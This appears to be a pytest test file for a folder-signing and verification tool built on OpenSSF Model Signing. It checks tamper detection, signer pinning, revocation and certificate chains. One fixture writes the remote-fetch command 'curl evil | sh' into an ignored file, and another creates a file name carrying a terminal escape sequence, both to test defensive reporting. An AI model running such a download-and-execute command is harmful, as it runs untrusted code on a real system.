"""`rye sign FOLDER` and `rye verify FOLDER`: OpenSSF Model Signing, with the trust that items have."""

import base64
import contextlib
import datetime as dt
import json
import os
import subprocess
from pathlib import Path

import pytest
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import ec

from rye.errors import TrustError
from rye.trust import signature, verify
from support import in_process
from support.signed_tools import key_pair, put


def rye(*words, cwd="/"):
    return in_process.rye(*words, cwd=cwd)


@pytest.fixture
def skill(project):
    folder = project / "pdf"
    (folder / "scripts").mkdir(parents=True)
    (folder / "SKILL.md").write_text("---\nname: pdf\ndescription: Read PDF files.\n---\n\nRun scripts/read.py.\n")
    (folder / "scripts/read.py").write_text("print('read')\n")
    return folder


def verdict(folder, *words):
    """Return the one row of `rye verify`, whose exit code must fit it."""
    done = rye("verify", str(folder), *words, "--json", cwd=folder.parent)
    assert done.stdout, done.stderr
    (row,) = json.loads(done.stdout)
    assert done.returncode == (0 if row["verdict"] == "valid" else 3)
    return row


def signed(folder, *words):
    (row,) = json.loads(rye("sign", str(folder), *words, "--json", cwd=folder.parent).stdout)
    return row


@pytest.mark.parametrize("kind", ["P-256", "P-384", "P-521", "Ed25519"])
def test_each_kind_of_key_signs_and_a_change_is_named(skill, tmp_path, kind):
    private, public = key_pair(tmp_path, kind)
    assert verdict(skill)["verdict"] == "unsigned"
    assert signed(skill, "--key", private)["status"] == "signed"
    before = (skill / "oms.sig").read_bytes()
    assert signed(skill, "--key", private)["status"] == "unchanged"
    assert (skill / "oms.sig").read_bytes() == before
    assert verdict(skill)["verdict"] == "unknown_signer"
    good = verdict(skill, "--key", public)
    assert (good["verdict"], good["files"], good["uncovered"]) == ("valid", 2, [])
    (skill / "scripts/read.py").write_text("print('else')\n")
    (skill / "more\x1b[31m").write_text("")
    (skill / ".gitignore").write_text("*")
    row, told = verdict(skill, "--key", public), "changed: scripts/read.py; not signed: more\\x1b[31m"
    assert (row["verdict"], told in row["hint"], row["uncovered"]) == ("tampered", True, [".gitignore"])
    (skill / "SKILL.md").unlink()
    assert "missing: SKILL.md" in verdict(skill, "--key", public)["hint"]


def test_trust_is_that_of_items(skill, tmp_path, user_space):
    put(user_space, "config/rye.yaml", b"signing: {agents: allow}\n")
    assert rye("keys", "generate", "--owner", "Jo").returncode == 0
    row = signed(skill)
    own = verdict(skill)
    assert (own["verdict"], own["owner"], own["signer"]) == ("valid", "Jo", row["signer"])
    # The first signer that was good is the only one from then on, whoever else is trusted.
    private, public = key_pair(tmp_path, "P-256")
    assert rye("trust", "add", str(public)).returncode == 0
    (skill / "oms.sig").unlink()
    gone = verdict(skill)
    assert (gone["verdict"], row["signer"] in gone["hint"]) == ("unsigned", True)
    signed(skill, "--key", private)
    changed = verdict(skill)
    assert (changed["verdict"], row["signer"] in changed["hint"]) == ("signer_changed", True)
    assert verdict(skill, "--key", public)["verdict"] == "signer_changed"
    assert rye("registry", "unpin", f"folder:{os.path.realpath(skill)}").returncode == 0
    assert verdict(skill)["verdict"] == "valid"
    digest = json.loads(rye("keys", "show", "--json").stdout)["digest"]
    assert rye("trust", "revoke", digest).returncode == 0
    (skill / "oms.sig").unlink()
    signed(skill)
    assert verdict(skill)["verdict"] == "revoked_key"


def test_the_signature_lies_in_the_folder_or_beside_it_or_where_it_is_said(skill, tmp_path):
    private, public = key_pair(tmp_path, "P-256")
    signed(skill, "--key", private, "--signature", skill.parent / "oms.sig")
    assert verdict(skill, "--key", public)["verdict"] == "valid"
    (skill.parent / "oms.sig").rename(tmp_path / "far.sig")
    assert verdict(skill, "--key", public)["verdict"] == "unsigned"
    assert verdict(skill, "--key", public, "--signature", tmp_path / "far.sig")["verdict"] == "valid"
    assert rye("verify", str(skill), str(tmp_path), "--signature", str(tmp_path / "far.sig")).returncode == 2


def test_what_is_left_out_is_said(skill, tmp_path):
    private, public = key_pair(tmp_path, "P-256")
    (skill / "cache").mkdir()
    (skill / ".git/hooks").mkdir(parents=True)
    signed(skill, "--key", private, "--ignore", "cache")
    (skill / "cache/run.sh").write_text("curl evil | sh")
    assert verdict(skill, "--key", public)["uncovered"] == [".git/", "cache/"]
    assert rye("sign", str(skill), "--key", str(private), "--ignore", "../x").returncode == 2


def test_what_no_signature_can_cover_is_refused_by_name(skill, tmp_path):
    private, public = key_pair(tmp_path, "P-256")
    (skill / "link").symlink_to("SKILL.md")
    assert "link is a link" in signed(skill, "--key", private)["error"]
    assert signed(skill, "--key", private, "--allow-links")["status"] == "signed"
    assert verdict(skill, "--key", public)["verdict"] == "valid"
    for make, expected in (
        (lambda: (skill / "link").symlink_to("scripts/read.py"), "tampered"),
        (lambda: os.mkfifo(skill / "link"), "not_signable"),
    ):
        (skill / "link").unlink()
        make()
        assert verdict(skill, "--key", public)["verdict"] == expected
    (skill / "link").unlink()
    (skill / os.fsdecode(b"\xff")).write_text("")
    assert "UTF-8" in signed(skill, "--key", private)["error"]


def test_bounds(project, tmp_path):
    private, public = key_pair(tmp_path, "P-256")
    deep = project / "deep"
    deep.mkdir()
    with contextlib.chdir(deep):
        for _ in range(400):
            os.mkdir("d")
            os.chdir("d")
    assert "200 folders deep" in signed(deep, "--key", private)["error"]
    for content in (b" " * (33 << 20), b"[" * 100_000):
        (deep / "oms.sig").write_bytes(content)
        assert verdict(deep, "--key", public)["verdict"] == "malformed"
    empty = project / "empty"
    empty.mkdir()
    assert signed(empty, "--key", private)["code"] == "not_signable"


def test_bad_keys(skill, tmp_path):
    private, public = key_pair(tmp_path, "P-256")
    signed(skill, "--key", private)
    for words in (["verify", "--key", str(private)], ["sign", "--key", str(public)], ["verify", "--key", "none.pem"]):
        done = rye(words[0], str(skill), *words[1:])
        assert (done.returncode, b"Traceback" in done.stderr) == (2, False), done


def test_a_folder_of_anything_that_bears_no_signature_is_unsigned(project, tmp_path):
    private, public = key_pair(tmp_path, "Ed25519")
    for name in ("model", "empty"):
        (project / name).mkdir()
        (project / "model/weights.bin").write_bytes(b"1")
        assert verdict(project / name)["verdict"] == "unsigned"
    (project / "model/run.py").write_text("print()\n")
    signed(project / "model", "--key", private)
    assert verdict(project / "model", "--key", public)["verdict"] == "valid"
    # Whoever takes the signature away does not get its files judged one by one.
    (project / "model/oms.sig").unlink()
    assert "signed by" in verdict(project / "model")["hint"]
    # Control: a folder with items is still its items.
    (project / "notes").mkdir()
    (project / "notes/a.md").write_text("# a\n")
    done = rye("verify", "notes", "--json", cwd=project)
    assert [row["target"] for row in json.loads(done.stdout)] == ["notes/a.md"]


def test_it_can_be_checked_by_hand(skill, tmp_path):
    """The steps of docs/signing.md, with openssl and sha256sum alone."""
    private, public = key_pair(tmp_path, "P-256")
    signed(skill, "--key", private)
    envelope = json.loads((skill / "oms.sig").read_text())["dsseEnvelope"]
    payload = base64.b64decode(envelope["payload"])
    (tmp_path / "pae").write_bytes(b"DSSEv1 28 application/vnd.in-toto+json %d " % len(payload) + payload)
    (tmp_path / "sig").write_bytes(base64.b64decode(envelope["signatures"][0]["sig"]))
    words = ["openssl", "dgst", "-sha256", "-verify", public, "-signature", tmp_path / "sig", tmp_path / "pae"]
    assert b"Verified OK" in subprocess.run(words, capture_output=True, check=True).stdout
    listed = "".join(f"{one['digest']}  {one['name']}\n" for one in json.loads(payload)["predicate"]["resources"])
    subprocess.run(["sha256sum", "-c", "--strict"], input=listed.encode(), cwd=skill, check=True, capture_output=True)


def certified(tmp_path, *, ca=True, days=1, purpose=True):
    """Return (leaf key, chain of leaf and intermediate, root file): certificates by one root."""
    from cryptography import x509
    from cryptography.hazmat.primitives import hashes
    from cryptography.x509.oid import ExtendedKeyUsageOID, NameOID

    now = dt.datetime.now(dt.UTC)

    def named(text):
        return x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, text)])

    def make(name, key, issuer, issuer_key, *more):
        built = x509.CertificateBuilder().subject_name(named(name)).issuer_name(named(issuer)).public_key(key.public_key())
        built = built.serial_number(x509.random_serial_number()).not_valid_before(now - dt.timedelta(days=3))
        built = built.not_valid_after(now + dt.timedelta(days=days))
        for extension, critical in more:
            built = built.add_extension(extension, critical)
        return built.sign(issuer_key, hashes.SHA256())

    root_key, middle_key, leaf_key = (ec.generate_private_key(ec.SECP256R1()) for _ in range(3))
    is_ca = (x509.BasicConstraints(ca=True, path_length=1), True)
    root = make("root", root_key, "root", root_key, is_ca)
    middle = make("middle", middle_key, "root", root_key, (x509.BasicConstraints(ca=ca, path_length=0 if ca else None), True))
    use = [(x509.ExtendedKeyUsage([ExtendedKeyUsageOID.CODE_SIGNING]), False)] if purpose else []
    leaf = make("leaf", leaf_key, "middle", middle_key, (x509.BasicConstraints(ca=False, path_length=None), True), *use)
    file = tmp_path / "root.pem"
    file.write_bytes(root.public_bytes(serialization.Encoding.PEM))
    private, pem = tmp_path / "leaf.key.pem", serialization.Encoding.PEM
    private.write_bytes(leaf_key.private_bytes(pem, serialization.PrivateFormat.PKCS8, serialization.NoEncryption()))
    return private, [one.public_bytes(serialization.Encoding.DER) for one in (leaf, middle)], file


@pytest.mark.parametrize("how", [{}, {"ca": False}, {"days": -1}, {"purpose": False}])
def test_a_chain_of_certificates(skill, tmp_path, how):
    private, chain, root = certified(tmp_path, **how)
    signed(skill, "--key", private)
    bundle = json.loads((skill / "oms.sig").read_text())
    rows = [{"rawBytes": base64.b64encode(one).decode()} for one in chain]
    bundle["verificationMaterial"] = {"x509CertificateChain": {"certificates": rows}}
    (skill / "oms.sig").write_text(json.dumps(bundle))
    assert verdict(skill)["verdict"] == "unknown_signer"
    assert verdict(skill, "--key", root)["verdict"] == ("unknown_signer" if how else "valid")
    (tmp_path / "else").mkdir()
    assert verdict(skill, "--key", certified(tmp_path / "else")[2])["verdict"] == "unknown_signer"


def test_the_vectors_for_other_implementations(project, tmp_path):
    vectors = json.loads((Path(__file__).parents[1] / "vectors/signatures.json").read_text())
    for number, one in enumerate(vectors["items"]):
        key = signature.PublicKey.from_pem(one["public_key"].encode())
        store = verify.TrustStore.build([verify.render_key_document(key, "them")], [])
        form = signature.form_of(one["type"], one["suffix"])
        try:
            assert verify.verify(one["text"].encode(), form, store).digest == one["digest"]
            found = "valid"
        except TrustError as err:
            found = err.code
        assert found == one["verdict"], number
    for number, one in enumerate(vectors["folders"]):
        folder = project / f"{number}/skill"
        for name, text in one["files"].items():
            (folder / name).parent.mkdir(parents=True, exist_ok=True)
            (folder / name).write_text(text)
        (folder / "oms.sig").write_text(json.dumps(one["bundle"]))
        (tmp_path / "key.pem").write_text(one["public_key"])
        assert verdict(folder, "--key", tmp_path / "key.pem")["verdict"] == one["verdict"], number
